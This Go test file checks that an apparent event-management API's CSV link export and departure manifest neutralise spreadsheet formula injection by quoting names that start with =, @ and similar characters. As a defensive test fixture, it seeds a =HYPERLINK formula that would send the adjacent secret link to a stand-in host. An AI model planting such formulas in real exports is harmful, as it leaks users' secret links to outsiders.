package api_test

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/outpost-org/outpost/internal/storetest"
)

// TestCSVDownloadsNeverCarryFormulas: a person whose names a spreadsheet
// would run (=HYPERLINK(…) pointing at the secret link beside it) comes
// out of the link export and the manifest as text, starting with a quote.
func TestCSVDownloadsNeverCarryFormulas(t *testing.T) {
	each(t, func(t *testing.T, c *corps) {
		p := storetest.Person("RU-0001", "RU-H1", "RU")
		p.GivenName, p.FamilyName = `=HYPERLINK("http://x/?"&E2,"click")`, "@SUM(1+1)"
		if _, err := c.store.ImportPeople(storetest.Ctx(), storetest.Batch(p)); err != nil {
			t.Fatal(err)
		}
		for _, path := range []string{
			fmt.Sprintf("/api/v1/rollcalls/%d/links", c.all),
			fmt.Sprintf("/api/v1/plans/%d/departures/TRAIN-1/manifest", c.plan),
		} {
			a := c.get(path, "manager")
			rows, err := csv.NewReader(strings.NewReader(a.body)).ReadAll()
			if err != nil || a.status != 200 {
				t.Fatalf("%s: %d %v\n%s", path, a.status, err, a.body)
			}
			found := 0
			for _, row := range rows {
				for _, cell := range row {
					if t := strings.TrimLeft(cell, " "); t != "" && strings.ContainsAny(t[:1], "=+-@\t\r") {
						found = -1000
					}
					if cell == `'=HYPERLINK("http://x/?"&E2,"click")` || cell == "'@SUM(1+1)" {
						found++
					}
				}
			}
			if found != 2 {
				t.Errorf("%s: the names are not both written as quoted text:\n%s", path, a.body)
			}
		}
	})
}
